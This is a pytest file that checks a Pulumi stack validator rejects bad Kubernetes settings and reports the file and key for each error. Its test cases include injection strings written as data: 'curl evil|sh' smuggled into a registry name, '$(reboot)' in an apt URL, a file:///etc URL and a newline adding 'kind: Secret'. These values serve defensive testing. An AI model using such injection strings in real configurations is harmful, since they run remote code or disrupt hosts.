"""hdh:kubernetes settings under careless or hostile input: one line per problem, file and key."""

from __future__ import annotations

from typing import Any

import pytest

from components.config import load_stack
from ground.errors import ConfigErrors
from hdh.plan import plan_stack

KUBEADM = "ovh-sbg"


@pytest.mark.parametrize(
    ("k8s", "key", "fragment"),
    [
        ({"version": "1.31.4"}, "hdh:kubernetes.version", "not a supported minor"),
        ({"version": "1.34.9"}, "hdh:kubernetes.version", "supported: 1.35, 1.36, 1.37"),
        ({"version": "1.36"}, "hdh:kubernetes.version", "should match pattern"),
        ({"registry": "mirror.example/x; curl evil|sh"}, "hdh:kubernetes.registry", "pattern"),
        ({"registry": "Mirror.Example"}, "hdh:kubernetes.registry", "pattern"),
        ({"aptUrl": "https://mirror/$(reboot)"}, "hdh:kubernetes.aptUrl", "pattern"),
        ({"aptUrl": "file:///etc"}, "hdh:kubernetes.aptUrl", "pattern"),
        ({"quotaCpu": "16 cores"}, "hdh:kubernetes.quotaCpu", "pattern"),
        ({"quotaEphemeralStorage": "-1Gi"}, "hdh:kubernetes.quotaEphemeralStorage", "pattern"),
        ({"defaultMemory": "1Gi\nkind: Secret"}, "hdh:kubernetes.defaultMemory", "pattern"),
        ({"quotaObjects": 0}, "hdh:kubernetes.quotaObjects", "greater than or equal to 1"),
        ({"bootstrapTimeout": 1}, "hdh:kubernetes.bootstrapTimeout", "greater than or equal"),
        ({"bootstrapTimeout": "forever"}, "hdh:kubernetes.bootstrapTimeout", "integer"),
    ],
)
def test_bad_values_name_file_and_key(
    edited_stack: Any, k8s: dict[str, Any], key: str, fragment: str
) -> None:
    def edit(c: dict[str, Any]) -> None:
        c["hdh:kubernetes"] = {"enabled": True, **k8s}

    with pytest.raises(ConfigErrors) as exc:
        plan_stack(KUBEADM, path=edited_stack(edit, stack=KUBEADM))
    lines = exc.value.lines()
    assert any(f"Pulumi.{KUBEADM}.yaml: {key}: " in line and fragment in line for line in lines), (
        lines
    )


def test_defaults_are_a_supported_version_and_bounded_quotas() -> None:
    k = load_stack(KUBEADM).settings.kubernetes
    assert k.version == "1.36.3"
    assert (k.quota_ephemeral_storage, k.default_ephemeral_storage, k.quota_objects) == (
        "100Gi",
        "2Gi",
        100,
    )
